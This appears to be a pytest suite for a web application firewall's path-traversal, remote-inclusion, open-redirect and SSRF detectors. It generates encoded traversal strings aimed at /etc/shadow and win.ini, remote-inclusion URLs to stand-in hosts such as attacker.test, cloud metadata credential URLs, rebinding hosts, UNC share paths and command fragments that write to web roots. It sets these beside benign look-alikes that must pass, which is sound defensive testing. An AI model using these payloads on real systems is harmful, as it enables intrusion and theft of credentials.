"""WAF, part 2b: path traversal, OS paths and remote file inclusion
(lua/edge/waf/detect/path.lua) through the real edge (shipped config, bans
off).

Attacks are generated, not copied from a list: every spelling of the dot
and the separator (URL, double URL, overlong UTF-8 and its lenient form,
IIS %u, look-alike Unicode, hex notation, backslash escapes, doubled and
"/./" separators) times depth times OS targets, and remote inclusion as a
value that is a whole path with its query. Benign look-alikes must pass:
paths mentioned in prose, file names, application paths, URLs given as
redirect or link values, each in a JSON note and as a query value."""
import itertools
import json
import urllib.parse

import pytest

from wafkit import WafEdge, no_lua_errors, refused, session, waf_config

CONF = waf_config()

# The dot pair and the separator, as they travel in a URL (percent escapes
# are kept as written; other characters are URL-encoded once when sent).
DOTS = [
    "..", "%2e%2e", "%252e%252e", ".%2e", "%c0%ae%c0%ae", "%c0%2e%c0%2e",
    "%e0%80%ae%e0%80%ae", "%u002e%u002e", "%uff0e%uff0e", "0x2e0x2e",
    "%u2025",
]
SEPARATORS = [
    "/", "\\", "%2f", "%5c", "%252f", "%c0%af", "%c0%5c", "%u2215",
    "%u2216", "%uff0f", "0x2f", "//", "/./", "\\/", ".\\/",
]
DEPTHS = [1, 4]
# The OS's own files (relative to the root), written with "/" and
# rewritten with the separator under test.
TARGETS = ["etc/passwd", "etc/shadow", "proc/self/environ",
           "windows/win.ini", "boot.ini"]


def traversal(dots, sep, depth, target):
    return (dots + sep) * depth + target.replace("/", sep)


def send_query(session, edge, raw):
    """raw: percent escapes kept, everything else encoded once."""
    q = urllib.parse.quote(raw, safe="%")
    return session.get(edge.url + "/probe?file=" + q)


def send_json(session, edge, value):
    return session.post(edge.url + "/probe", json={"note": value})


def assert_both(session, edge, value, status):
    """value as a query value (send_query) and as a JSON note: both
    answered `status`."""
    assert send_query(session, edge, value).status_code == status, value
    assert send_json(session, edge, value).status_code == status, value


@pytest.fixture(scope="module")
def edge(tmp_path_factory):
    e = WafEdge(tmp_path_factory.mktemp("waf-path"), CONF).start()
    yield e
    e.stop()


# A value of letters and digits only never reaches the detectors but for
# a lone word or base64 (edge.waf.inspect's first fast path): hex notation
# of both the dots and the separator is such a value.
SPELLINGS = list(itertools.product(DOTS, SEPARATORS))


@pytest.mark.parametrize("dots,sep", SPELLINGS)
def test_traversal_spellings_blocked(edge, session, dots, sep):
    missed = []
    for depth, target in itertools.product(DEPTHS, TARGETS):
        payload = traversal(dots, sep, depth, target)
        if not refused(send_query(session, edge, payload)):
            missed.append(("query", payload))
        if not refused(send_json(session, edge, payload)):
            missed.append(("json", payload))
    assert not missed, missed


# Absolute paths into the OS's areas with no "..": spelled with doubled
# or "/./" separators, a file: URL, backslashes (escaped or not), drive
# letters (with and without a separator after the colon).
def absolute_variants():
    unix = ["etc/passwd", "etc/shadow", "proc/self/environ",
            "proc/1/cmdline", "root/.ssh/id_rsa", "var/spool/cron/root",
            "home/alice/.bash_history", "etc/nginx/nginx.conf"]
    out = []
    for t in unix:
        parts = t.split("/")
        out += [
            "/" + t,
            "/" + "//".join(parts),
            "/./././" + t,
            "/" + "/./".join(parts),
            "file://" + "/" + t,
            "file:" + "/" + t,
            "\\" + "\\".join(parts),
            "\\/" + "\\/".join(parts),
            "%2f" + "%2f".join(parts),
            "%u2215" + "%u2215".join(parts),
            "/%2e/" + t,
        ]
    for drive, sep in itertools.product("cd", ["\\", "/"]):
        out += [
            f"{drive}:{sep}windows{sep}win.ini",
            f"{drive.upper()}:{sep}WINDOWS{sep}system32{sep}drivers{sep}etc{sep}hosts",
            f"{drive}:{sep}boot.ini",
            f"{drive}:windows{sep}system32{sep}",
            f"{drive}:{sep}inetpub{sep}wwwroot{sep}web.config",
        ]
    return out


ABSOLUTE = absolute_variants()


# An application's credentials file by its well-known name at the end of
# an absolute path; named alone, relative or in a sentence it is a mention.
APP_SECRET_FILES = ["tomcat-users.xml", "wp-config.php", "config.inc.php",
                    "LocalSettings.php", "database.yml", "secrets.yml", "id_ed25519",
                    "authorized_keys", "web.config"]


@pytest.mark.parametrize("payload", [
    f"{root}{sep.join(['srv', 'site', 'conf', name])}"
    for name in APP_SECRET_FILES
    for root, sep in [("/", "/"), ("file:///", "/"), ("D:\\", "\\")]])
def test_application_credentials_by_absolute_path_blocked(edge, session, payload):
    assert refused(send_query(session, edge, payload)), payload
    assert refused(send_json(session, edge, payload)), payload


@pytest.mark.parametrize("value", [
    v for name in APP_SECRET_FILES
    for v in (name, f"conf/{name}", f"Edit /srv/site/{name} and set the password",
              f"/docs/{name}.html")])
def test_application_credentials_mentioned_pass(edge, session, value):
    assert send_json(session, edge, value).status_code == 404, value
    assert send_query(session, edge, value).status_code == 404, value


@pytest.mark.parametrize("payload", ABSOLUTE, ids=range(len(ABSOLUTE)))
def test_absolute_os_paths_blocked(edge, session, payload):
    assert refused(send_query(session, edge, payload)), payload
    assert refused(send_json(session, edge, payload)), payload


# The same targets named in a command line or an assignment, in text.
@pytest.mark.parametrize("payload", [
    "x; less /etc/passwd", "dd if=/etc/shadow of=/dev/null",
    "data > /tmp/x.sh", "a | tee /var/spool/cron/root",
    "read it: /proc/self/environ", "see C:\\Windows\\win.ini now",
    "jar:file:/etc/passwd", "open file:/etc/hosts now",
    # an option given an account file (argument injection), in text too
    "192.0.2.0/28 -iL /etc/shadow -v", "backup.example --from=/etc/passwd --to x",
])
def test_os_paths_in_command_lines_blocked(edge, session, payload):
    assert refused(send_json(session, edge, payload)), payload
    assert refused(send_query(session, edge, urllib.parse.quote(payload))), payload


# Remote inclusion: a value that is a whole path with its query (the
# application's own URL given as one value), or a name=URL pair, with the
# evidence an inclusion leaves: a URL cut short by "?" (to drop the
# suffix the application appends), an IP-literal host, an include-like
# name given a remote script.
SCHEMES = ["http://", "https://", "ftp://", "//"]
HOSTS = ["attacker.test", "files.evil.test:8080", "203.0.113.9"]
NAMES = ["page", "lang", "include_path", "mod_dir", "cfg[root]"]


def rfi_variants():
    out = []
    for scheme, host, name in itertools.product(SCHEMES, HOSTS, NAMES):
        url = f"{scheme}{host}/x/payload.txt"
        out += [
            f"/app/view.php?{name}={url}?",
            f"/app/view.php?id=2&{name}={url}??",
            f"/app/view.php?{name}={url}?&x=1",
            f"{name}={url}?",
        ]
    return out


RFI = rfi_variants()


@pytest.mark.parametrize("payload", RFI, ids=range(len(RFI)))
def test_remote_inclusion_in_a_value_blocked(edge, session, payload):
    assert refused(send_query(session, edge, urllib.parse.quote(payload))), payload
    assert refused(send_json(session, edge, payload)), payload


@pytest.mark.parametrize("payload", [
    "/lib/loader.php?lib_dir=https://cdn.evil.test/shell.php",
    "/index.php?template_path=http://evil.test/t.txt",
    "/x.php?u=http://203.0.113.9/a",
    "/x.php?u=ftp://[2001:db8::7]/a",
])
def test_remote_inclusion_evidence_without_truncation(edge, session, payload):
    assert refused(send_query(session, edge, urllib.parse.quote(payload))), payload
    assert refused(send_json(session, edge, payload)), payload


# A remote URL given to a parameter named like an include (its name's
# words: file, tpl_dir, page[template]) is inclusion; a URL given to
# redirect_uri (which holds "dir" inside a word) is an OAuth flow.
@pytest.mark.parametrize("name", ["file", "tpl_dir", "page[template]", "filename"])
def test_remote_url_to_an_include_named_parameter_blocked(edge, session, name):
    r = session.get(edge.url + "/probe",
                    params={name: "https://files.evil.test/x/shell.txt"})
    assert refused(r), name


def test_oauth_redirect_uri_with_a_query_passes(edge, session):
    r = session.get(edge.url + "/probe", params={
        "response_type": "code", "client_id": "abc",
        "redirect_uri": "https://app.example.com/callback?code=1",
        "state": "xyz"})
    assert not refused(r)


# Open redirects: a value a browser reads as another host while a
# same-site check sees a path.
def redirect_variants():
    out = []
    for host in ["evil.test", "203.0.113.9", "3405803785", "0xcb007109"]:
        for lead in ["/\\", "\\/", "///", "////", "/\\/"]:
            out += [f"{lead}{host}/landing", f"/login?to={lead}{host}"]
    for host in ["203.0.113.9", "3405803785"]:
        out += [f"//{host}", f"/out?url=//{host}/x", f"https://{host}/"]
    # an http(s) URL whose "//" is spelled otherwise (browsers read the
    # host that follows)
    for scheme, sep in itertools.product(["http:", "https:", "HTTPS:"],
                                         ["/\\/", "\\\\", "\\/", "/", "///", ""]):
        out += [f"{scheme}{sep}evil.test/landing", f"/login?to={scheme}{sep}evil.test"]
    # a tab or a line break inside "//" (browsers drop them from URLs),
    # a host's dots written as the ones IDNA maps to "." (U+3002, U+FF61)
    for host in ["evil.test", "203.0.113.9"]:
        out += [f"/{ws}/{host}/x" for ws in ["\t", "\n", "\r\n", "\t\t"]]
        out += [f"/\t\\{host}", f"/login?to=/\t/{host}"]
    for dot in ["\u3002", "\uff61"]:
        out += [f"//evil{dot}test/x", f"https://evil{dot}test", f"/login?to=//evil{dot}test"]
    # a redirect parameter inside a value given a scheme-relative URL
    for name in ["next", "return_to", "redirect_uri", "to", "target"]:
        out += [f"/login?{name}=//evil.test/x", f"/a?b=1&{name}=//[2001:db8::1]"]
    return out


REDIRECTS = redirect_variants()


@pytest.mark.parametrize("payload", REDIRECTS, ids=range(len(REDIRECTS)))
def test_open_redirects_blocked(edge, session, payload):
    r = session.get(edge.url + "/probe", params={"next": payload})
    assert refused(r), payload
    assert refused(send_json(session, edge, payload)), payload


def test_urls_with_their_slashes_pass(edge, session):
    """Well-formed absolute URLs, ports and a scheme named in text are no
    redirect trick."""
    for value in ["https://evil.test/landing", "http://shop.example.com:8080/cart",
                  "protocol: https:443", "https: the secure one", "see http://x.test",
                  "mailto:anna@example.com", "tel:+15550100",
                  "/a\t/b", "see https://example.jp/\u3002 then", "\u8a73\u7d30\u3002https://example.jp/"]:
        r = session.get(edge.url + "/probe", params={"next": value})
        assert not refused(r), value
        assert not refused(send_json(session, edge, value)), value


# Loopback and internal hosts in other spellings: inet_aton's short forms
# (a.b, a.b.c), an internal IP as the leading labels of a name wildcard DNS
# resolves to it, a host in its fully qualified form (trailing dot).
def internal_host_variants():
    out = []
    for scheme, tail in itertools.product(["http://", "https://", "gopher://"],
                                          ["/", ":6379/x", ""]):
        for host in ["127.1", "10.1", "127.0.1", "192.168.1", "10.0.258"]:
            out.append(f"{scheme}{host}{tail}")
        for ip, sep, zone in itertools.product(
                ["127.0.0.1", "10.2.3.4", "192.168.7.7", "169.254.169.254",
                 "172.20.0.3"], [".", "-"], ["nip.io", "sslip.io", "example.net"]):
            out.append(f"{scheme}{ip.replace('.', sep)}.{zone}{tail}")
        for host in ["localhost", "metadata.google.internal",
                     "kubernetes.default.svc", "db.internal"]:
            out.append(f"{scheme}{host}.{tail or '/'}")
    return out


# (and a host of one label, a container's or a cluster's service name)
INTERNAL_HOSTS = internal_host_variants() + [
    "http://grafana:3000/api/admin/users", "http://intranet/hr/pay.xlsx",
    "gopher://cache:11211/_stats", "http://u:p@vault:8200/v1/sys",
    "http://hvac.plant.local:8080/points", "http://nas.lan/admin",
]
INTERNAL_BENIGN = [
    "https://user:pw@shop.example/cart", "http://a:b@files.example.org/x",
    "https://local.example.com/x", "https://lan.example.org/",
    "https://example.com/v1.2/api", "https://docs.python.org/3.12/library/",
    "Version 10.1/2 of the spec", "http://release-1.2.example.com/",
    "https://ec2-54-12-3-4.compute-1.amazonaws.com/", "https://10times.com/events",
    "https://127-things.example.com/", "https://1.2.3.4.example.org/",
    "Open http://localhost. Then log in.", "http://localhost.example.com/",
    "https://example.com./", "https://172.15.0.3.example.org/",
]


@pytest.mark.parametrize("payload", INTERNAL_HOSTS, ids=range(len(INTERNAL_HOSTS)))
def test_internal_host_spellings_blocked(edge, session, payload):
    assert refused(session.get(edge.url + "/probe", params={"url": payload})), payload
    assert refused(send_json(session, edge, payload)), payload


@pytest.mark.parametrize("value", INTERNAL_BENIGN)
def test_versions_and_public_hosts_pass(edge, session, value):
    assert not refused(session.get(edge.url + "/probe", params={"url": value})), value
    assert not refused(send_json(session, edge, value)), value


# Benign look-alikes -----------------------------------------------------------

APPS = ["nginx", "myapp", "redis", "postgresql"]


def benign_values():
    out = []
    for app in APPS:
        out += [
            # paths mentioned in prose
            f"Logs are under /var/log/{app}/, rotated daily.",
            f"The config lives in /etc/{app}/{app}.conf; reload after editing.",
            f"Man pages are in /usr/share/man, try man {app}.",
            f"I copied the build to /opt/{app}/releases/2026 yesterday.",
            f"Add the host to /etc/hosts and restart {app}.",
            f"Put the file in ~/Documents/{app}.pdf and share the link.",
            f"Keys go in ~/.ssh/config on your laptop.",
            f"I saved it to C:\\Users\\anna\\Desktop\\{app}.txt, can you check?",
            f"The {app} binary ends up in /usr/local/lib/{app} after install.",
            # file names and application paths as values
            f"{app}.tar.gz", f"{app}-2026-11.tgz", f"{app}.log", f"{app}.ini",
            f"{app}.conf", f"~/Downloads/{app}.pdf", f"docs/{app}/readme.md",
            f"src/{app}/main.py", f"/tmp/{app}-upload.csv",
            f"/opt/{app}/config.yaml", f"/usr/share/doc/{app}/README",
            f"/home/anna/projects/{app}", f"~/.config/{app}/settings.json",
            f"C:\\Program Files\\{app}\\{app}.exe",
            f"D:\\Photos\\2024\\{app}.jpg",
            f"\\\\fileserver\\share\\{app}.xlsx",
            f"./scripts/{app}.sh", f"./././src/{app}/main.c",
            f"./configure --prefix=/usr/local/{app}",
            # a search path, a volume's mount point
            f"LD_LIBRARY_PATH=/usr/lib:/usr/local/lib/{app}",
            f'volumes: ["./{app}:/usr/share/{app}/html:ro"]',
            f"deploy target: {app}@host:/var/www/{app}/",
            # URLs as redirect, link and resource values
            f"https://{app}.example.com/dashboard?tab=2",
            f"https://example.com/login?next=https://{app}.example.com/home",
            f"/account/{app}/settings?ref=email",
            f"https://cdn.example.com/{app}/app.js",
            "https://accounts.example.com/o/oauth2/auth?redirect_uri="
            f"https://{app}.example.com/callback&response_type=code",
            f"https://images.example.com/resize?src=https://cdn.example.com/{app}.jpg&w=200",
            f"https://example.com/{app}/page.php?id=3&lang=en",
            f"ftp://ftp.example.org/pub/{app}/",
            f"//cdn.example.com/{app}/app.js",
            f"/resize?url=//cdn.example.com/{app}.png", f"/mail?to=/inbox/{app}",
            f"/// Returns the {app} handle.",
            f"Run `go test ./...` in {app} before you push.",
            f"{app}: see the docs/... and the rest",
            f"https:\\/\\/{app}.example.com\\/docs",
        ]
    return out


BENIGN = benign_values()


@pytest.mark.parametrize("value", BENIGN, ids=range(len(BENIGN)))
def test_benign_paths_and_urls_pass(edge, session, value):
    r = send_json(session, edge, value)
    assert r.status_code == 404, (value, "json", r.status_code)
    r = session.get(edge.url + "/probe", params={"note": value, "next": value})
    assert r.status_code == 404, (value, "query", r.status_code)


def test_benign_note_on_the_real_route(edge, session):
    """A check-in note that mentions several paths and a link."""
    note = ("Moved the logs from /var/log/myapp/ to /srv/logs, see "
            "docs/ops.md and https://wiki.example.com/ops?page=logs#rotation; "
            "the old config is in /etc/myapp/myapp.conf.")
    r = session.post(edge.url + "/api/checkins/alice", json={"note": note})
    assert r.status_code == 200, r.text
    body = json.loads(r.text)
    assert body


# An editor's backup name ends in "~" after the whole file name ("x.php~",
# "Makefile~"): a name of a file name's bytes, from the value's start or a
# separator. A bot sensor's cookie ("AbC+dEf~/gH=": base64 with "~" as
# its field separator) holds "~/" by chance after bytes no file name has.
BACKUP_NAMES = ["index.php~", "/var/www/html/wp-config.php~", "app/Makefile~",
                "conf\\web.config~"]
SENSOR_COOKIES = ["AbC+dEf~/gH=", "Xk+Pq3~/Tz=", "Qm==Rt-8~/Lp", "6D1C4C6A5E8E1A8F~0~YAAQ+/ab~-1"]


@pytest.mark.parametrize("value", BACKUP_NAMES)
def test_backup_names_blocked(edge, session, value):
    assert_both(session, edge, value, 403)


@pytest.mark.parametrize("value", SENSOR_COOKIES)
def test_sensor_tokens_with_a_tilde_pass(edge, session, value):
    r = session.get(edge.url + "/probe", headers={"Cookie": "_abck=" + value})
    assert r.status_code == 404
    assert send_query(session, edge, value).status_code == 404


# A file someone names rather than asks the server for: a path in a
# project's tree (a push webhook's file list, a review) or an object at a
# network URL is a mention. A bare name at the web root, a path from the
# root, a file: URL and a backup copy anywhere are still the leak.
NAMED_FILES = ["migrations/20240521_add_uuid_to_users.sql", "certs/dev.key",
               "db/structure.sql", "fixtures\\seed.sqlite",
               "s3://data-lake/exports/2024/07/09/dump.sql.gz",
               "gs://backups-eu/nightly/app.dump"]
LEAKED_FILES = ["backup.sql", "db.sqlite", "/srv/app/dump.sql", "C:\\inetpub\\site.mdb",
                "file:///srv/backup.sql", "../backup.sql", "./backup.sql",
                "app/config.php.bak", "src/settings.py.orig", "deploy/../dump.sql"]


@pytest.mark.parametrize("value", NAMED_FILES)
def test_files_named_in_a_tree_or_at_a_url_pass(edge, session, value):
    assert_both(session, edge, value, 404)


@pytest.mark.parametrize("value", LEAKED_FILES)
def test_files_at_the_root_and_copies_refused(edge, session, value):
    assert_both(session, edge, value, 403)


# A UNC path makes a Windows server open an SMB connection: to an
# administrative share, an IP literal or localhost, or into the device
# namespace, it is refused; a share on a named server and a
# scheme-relative URL are not.
UNC_ATTACKS = ["\\\\::1\\c$\\users\\default\\ntuser.dat", "\\\\10.0.0.66\\share\\x.txt",
               "\\\\.\\GLOBALROOT\\Device\\HarddiskVolumeShadowCopy1\\x",
               "\\\\?\\GLOBALROOT\\Device\\x", "\\\\localhost\\admin$\\system32",
               "//evil.example/c$/x", "\\\\evil.example\\ipc$", "\\\\127.0.0.1@80\\x",
               "\\\\.\\pipe\\spoolss"]
UNC_BENIGN = ["\\\\fileserver\\public\\q3.xlsx", "//cdn.example.com/x.js",
              "The share is at \\\\fileserver\\team and C:\\Users\\me",
              "\\\\?\\C:\\very\\long\\path", "costs $5 at //shop.example/c/deals"]


@pytest.mark.parametrize("value", UNC_ATTACKS)
def test_unc_paths_to_shares_addresses_and_devices_refused(edge, session, value):
    assert_both(session, edge, value, 403)


@pytest.mark.parametrize("value", UNC_BENIGN)
def test_unc_paths_on_named_servers_pass(edge, session, value):
    assert_both(session, edge, value, 404)


# An uploaded file is the client's own: a log, an archive or a settings
# file is an attachment; a name standing for the server's secrets or a
# backup copy (wp-config.php.bak, server.key), or one it would run, is not.
@pytest.mark.parametrize("name", ["sync.log", "photos.zip", "export.tar.gz", "app.ini",
                                  "nginx.conf"])
def test_uploads_named_like_ordinary_files_pass(edge, session, name):
    r = session.post(edge.url + "/probe",
                     files={"ticket[attachments][]": (name, b"2024-05-21 INFO ok\n", "text/plain")})
    assert r.status_code == 404, r.text


@pytest.mark.parametrize("name", ["wp-config.php.bak", "server.key", "dump.sql", "shell.php",
                                  ".htaccess"])
def test_uploads_named_for_secrets_or_code_refused(edge, session, name):
    r = session.post(edge.url + "/probe",
                     files={"ticket[attachments][]": (name, b"2024-05-21 INFO ok\n", "text/plain")})
    assert r.status_code == 403, r.text


# A redirection's target is written: a crontab line or a manual's example
# appends to a log under /var/log. Chained after
# another command, into the OS's own places, or in an argument named for
# a command (run as written), it is still refused.
LOG_WRITES = ["0 3 * * * /usr/local/bin/backup.sh >> /var/log/backup.log 2>&1",
              "backup.sh >> /var/log/backup.log", "echo hi > /var/log/x.log",
              "*/10 * * * * /opt/app/sync >>/var/log/sync.log 2>&1"]
WRITES_REFUSED = [";echo x > /tmp/x", "0 3 * * * fetch > /tmp/x.sh", "x; echo hi >> /var/log/x.log", "echo x > /etc/cron.d/x",
                  "echo pwned > /var/www/html/index.html", "a && b > /tmp/x"]


@pytest.mark.parametrize("value", LOG_WRITES)
def test_writes_to_logs_pass(edge, session, value):
    r = session.get(edge.url + "/probe", params={"q": value})
    assert not refused(r), value
    assert not refused(send_json(session, edge, value)), value


@pytest.mark.parametrize("value", WRITES_REFUSED)
def test_chained_writes_and_writes_to_os_places_refused(edge, session, value):
    r = session.get(edge.url + "/probe", params={"q": value})
    assert refused(r), value
    assert refused(send_json(session, edge, value)), value


@pytest.mark.parametrize("value", LOG_WRITES[1:])
def test_writes_to_logs_in_a_command_argument_refused(edge, session, value):
    r = session.get(edge.url + "/probe", params={"cmd": value})
    assert refused(r), value


# An OS file relative to ".": from a process whose working directory is
# "/" (a container's default) it is the OS's own, however many "."
# segments and separators lead to it. Other paths relative to "." (a
# build log's "././include/x.h") are paths like any other.
DOT_RUNS = [f"{lead}{seg * n}{target}"
            for lead, (seg, n), target in itertools.product(
                ["", "x=", "cat "],
                [("./", 1), ("./", 5), (".\\", 3), (".//", 2), (".\\/", 2)],
                ["etc/shadow", "proc/self/environ", "windows/win.ini"])]
# ... and as a whole value into an OS directory, read as the absolute
# path is (a glob in the name or the first directory hides it)
DOT_RUNS += ["./etc/s?adow", "./etc/pa*wd", "./e?c/passwd", "./e*c/shadow", "././proc/self/c*",
             "./var/www/html/index.php"]
ONE_DOT = ["./configure && ./run", "cd ./src/./lib", "see ./docs and ./README.md",
           "a/./b", 'import x from "./foo/./bar"', ".\\build.ps1 -Release",
           "In file included from ././include/linux/compiler_types.h:89",
           "./././src/app/main.c", "./etc-backup/notes.txt", "./myetc/passwd.txt",
           "see ./etc/app.conf for it", "./e2e/tests/login.spec.ts"]


@pytest.mark.parametrize("value", DOT_RUNS)
def test_os_files_relative_to_the_current_directory_refused(edge, session, value):
    assert send_query(session, edge, value).status_code == 403, value
    assert send_json(session, edge, value).status_code == 403, value


@pytest.mark.parametrize("value", ONE_DOT)
def test_other_paths_relative_to_the_current_directory_pass(edge, session, value):
    assert not refused(send_query(session, edge, value)), value
    assert not refused(send_json(session, edge, value)), value


# A cloud instance's metadata service at a URL anywhere in the value (a
# link preview, a feed reader or a spreadsheet's import fetches URLs in
# text): the hosts times the ways text carries a link. A loopback URL in a
# sentence and the metadata address named without a URL pass.
METADATA_URLS = [f"{scheme}://{host}{path}" for scheme, host, path in itertools.product(
    ["http", "https"],
    ["169.254.169.254", "[fd00:ec2::254]", "100.100.100.200", "metadata.google.internal",
     "instance-data"],
    ["/latest/meta-data/iam/security-credentials/", "/computeMetadata/v1/"])]
METADATA_IN_TEXT = [tpl.format(u) for tpl, u in itertools.product(
    ["{}", "Add this RSS feed to the team channel: {}", "=IMPORTXML(\"{}\",\"//*\")",
     "preview: <{}>", "[docs]({})"], METADATA_URLS)]


@pytest.mark.parametrize("value", METADATA_IN_TEXT)
def test_metadata_urls_anywhere_blocked(edge, session, value):
    assert_both(session, edge, value, 403)


@pytest.mark.parametrize("value", [
    "open http://localhost:3000 to see it",
    "The instance metadata service lives at 169.254.169.254; require IMDSv2.",
    "see https://docs.aws.amazon.com/AWSEC2/latest/UserGuide/instancedata-data-retrieval.html",
    "the metadata.google.internal name only resolves inside GCE",
])
def test_metadata_named_in_text_passes(edge, session, value):
    assert_both(session, edge, value, 404)


# Enclosed alphanumerics in a host: a URL parser maps them to ASCII (UTS
# 46), so circled digits and letters spell loopback and internal names;
# circled numbers in a list of steps pass.
def circled(text):
    out = []
    for c in text:
        if c == "0":
            out.append("\u24ea")
        elif c.isdigit():
            out.append(chr(0x245F + int(c)))
        elif c.isalpha():
            out.append(chr(0x24D0 + ord(c.lower()) - 97))
        else:
            out.append(c)
    return "".join(out)


@pytest.mark.parametrize("host", ["127.0.0.1", "localhost", "169.254.169.254", "0.0.0.0"])
def test_circled_internal_hosts_blocked(edge, session, host):
    assert_both(session, edge, f"http://{circled(host)}/admin", 403)


def test_circled_numbers_in_steps_pass(edge, session):
    assert_both(session, edge, "Steps \u2460 open the app \u2461 tap login \u2462 done", 404)


# A secrets file's template, committed beside the code because it holds
# none (".env.example", ".htaccess.sample"), is no target; the file
# itself, anywhere, still is.
@pytest.mark.parametrize("value", [".env.example", ".htaccess.sample", ".npmrc.template",
                                   "config/.env.dist"])
def test_secret_file_templates_pass(edge, session, value):
    assert_both(session, edge, value, 404)


@pytest.mark.parametrize("value", [".env", "../../.env", "/var/www/.env", ".aws/credentials",
                                   "/home/u/.ssh/id_rsa", ".env.local", ".git/config"])
def test_secret_files_blocked(edge, session, value):
    assert_both(session, edge, value, 403)


# The metadata services' own paths at any host (DNS rebinding, a
# redirect, an alias: 7f000001.a9fea9fe.rbndr.us) and a cluster's service
# names are internal; the same words deeper in a path are a page's.
@pytest.mark.parametrize("value", [
    "http://7f000001.a9fea9fe.rbndr.us/latest/meta-data/",
    "http://a9fea9fe.rebind.attacker.example/latest/meta-data/iam/security-credentials/",
    "http://evil.example/computeMetadata/v1/instance/service-accounts/default/token",
    "http://x.example/metadata/instance?api-version=2021-02-01",
    "http://payments-api.default.svc.cluster.local:8080/v1/refunds?all=true",
    "http://redis.cache.svc:6379/"])
def test_metadata_paths_and_cluster_services_blocked(edge, session, value):
    assert_both(session, edge, value, 403)


@pytest.mark.parametrize("value", [
    "https://blog.example.com/posts/latest/meta-data", "http://a.example/latest/meta-data-guide",
    "https://docs.aws.amazon.com/AWSEC2/latest/UserGuide/instancedata-data-retrieval.html"])
def test_metadata_words_in_a_page_path_pass(edge, session, value):
    # (as a search term and a note: a URL given to a "file" argument is an
    # inclusion of its own)
    assert session.get(edge.url + "/probe", params={"q": value}).status_code == 404, value
    assert send_json(session, edge, value).status_code == 404, value


# A prefix location whose alias lacks its slash maps "/static../x" to the
# alias's parent (nginx's off-by-slash).
@pytest.mark.parametrize("value", ["/static../app/settings.py", "/img../../etc/passwd",
                                   "/assets../.env"])
def test_alias_off_by_slash_blocked(edge, session, value):
    assert_both(session, edge, value, 403)


@pytest.mark.parametrize("value", ["/docs/readme..md", "/a..b/c", "wait../really"])
def test_double_dots_inside_names_pass(edge, session, value):
    assert_both(session, edge, value, 404)


# An account file in a sentence's code span is a mention, as it is between
# spaces; a code span alone, or the path after a command, is the target.
def test_account_file_in_a_sentence_code_span_passes(edge, session):
    for v in ["Make sure `/etc/passwd` is not world-writable",
              "Check `/etc/shadow` permissions (0640)."]:
        assert session.get(edge.url + "/probe", params={"q": v}).status_code == 404, v
        assert send_json(session, edge, v).status_code == 404, v


@pytest.mark.parametrize("value", ["`/etc/passwd`", "cat `/etc/passwd`", "see `/etc/passwd`"])
def test_account_file_in_a_bare_code_span_blocked(edge, session, value):
    assert_both(session, edge, value, 403)


# GCP's bare "metadata" host and its v1beta1 path, Consul's service names.
@pytest.mark.parametrize("value", [
    "http://metadata/computeMetadata/v1beta1/project/attributes/ssh-keys?alt=json",
    "http://consul.service.consul:8500/v1/agent/self", "http://metadata/"])
def test_bare_metadata_host_and_consul_names_blocked(edge, session, value):
    assert_both(session, edge, value, 403)


# A percent escape a filter stripped of its "%" ("..2f" is "../" once a
# later decoder reads the "2f"), look-alike dots and slashes with no ASCII
# one in the value, ".." glued to a word or a drive, a Windows
# administrative share, a home's dot file named by "~", macOS's /private.
@pytest.mark.parametrize("value", [
    "..2f..2fetc2fpasswd", "..2f..2f..2f..2fvar2flog2fapache2ferror_log",
    "..5c..5cwindows5cwin.ini",
    "\u2025\ufe68\u2025\ufe68\u2025\ufe68etc\ufe68passwd", "\u2025\u2215\u2025\u2215etc\u2215passwd",
    "C:../Windows/system32/drivers/etc/hosts", "x../../etc/shadow",
    "C:..\\Windows\\system32\\drivers\\etc\\hosts",
    "\\\\fs01\\c$\\logs", "\\\\localhost\\ADMIN$\\system32",
    "~/.bash_profile", "~/.viminfo", "/private/etc/httpd/httpd.conf.default"])
def test_stripped_escapes_lookalikes_glued_dots_shares_and_dotfiles_blocked(edge, session,
                                                                           value):
    assert_both(session, edge, value, 403)


@pytest.mark.parametrize("value", [
    "~/.config/postgresql/settings.json", "add this to ~/.bashrc please", "wait../what is this",
    "see \\\\fs01\\share\\docs", "hash a2f3..2f? no: 1..2 of 5", "price \u2025 9.99"])
def test_their_look_alikes_in_text_pass(edge, session, value):
    assert session.get(edge.url + "/probe", params={"q": value}).status_code == 404, value
    assert send_json(session, edge, value).status_code == 404, value


# Names under "localhost" (RFC 6761), an internal IP as labels inside a
# wildcard-DNS name or as a name's last labels, and the schemes curl also
# fetches with (sftp, scp, smb, telnet); and any scheme's URL at the
# machine itself as the whole value (a client library dials it whatever
# the scheme: a database's, a broker's, a WebSocket's).
@pytest.mark.parametrize("value", [
    "http://example.com.localhost/admin", "http://example.com.127.0.0.1",
    "http://customer1.app.localhost.my.company.127.0.0.1.nip.io",
    "https://app.10.0.0.5.sslip.io/", "sftp://127.0.0.1:11111/", "smb://localhost/c$",
    "postgres://app:pw@localhost:5432/app", "nats://127.0.0.9:4222",
    "wss://[::1]:9229/json", "memcache://169.254.169.254:11211/"])
def test_loopback_names_and_fetcher_schemes_blocked(edge, session, value):
    assert_both(session, edge, value, 403)


# (a connection string to the cluster's own names, or a public host, is
# a data pipeline's setting: only the machine itself counts in any scheme)
@pytest.mark.parametrize("value", [
    "postgres://app:pw@db.example.com:5432/app", "nats://queue.internal:4222/jobs",
    "redis://cache-0.cache.svc:6379/1", "version 1.2.127.0.0.1 of the build",
    "https://localhost.example.org", "see https://www.example.com/a"])
def test_database_urls_and_versions_pass(edge, session, value):
    assert session.get(edge.url + "/probe", params={"q": value}).status_code == 404, value
    assert send_json(session, edge, value).status_code == 404, value


# (a host that holds a whole site's name and its ".com", then another
# domain, was listed above as a public host; since the eighty-second round
# it is refused as what it is built for: an allow-list that checks the
# URL's start passes it, and the fetch goes to the other domain)
@pytest.mark.parametrize("value", ["https://localhost.example.com.evil-not.net",
                                   "https://api.example.com.other-not.net/hook"])
def test_trusted_name_under_another_domain_blocked(edge, session, value):
    assert_both(session, edge, value, 403)


# A raster picture as a data: URL (an avatar's, a thumbnail's) whose bytes
# start as its format's do; one that holds PHP ("<?"), whatever its type,
# or another type still counts (a PHP include of a data: URL runs it).
def _data(kind, raw):
    import base64
    return f"data:image/{kind};base64," + base64.b64encode(raw).decode()


def test_raster_data_urls_pass(edge, session):
    for v in [_data("png", b"\x89PNG\r\n\x1a\n" + bytes(32)),
              _data("jpeg", b"\xff\xd8\xff\xe0\x00\x10JFIF\x00"),
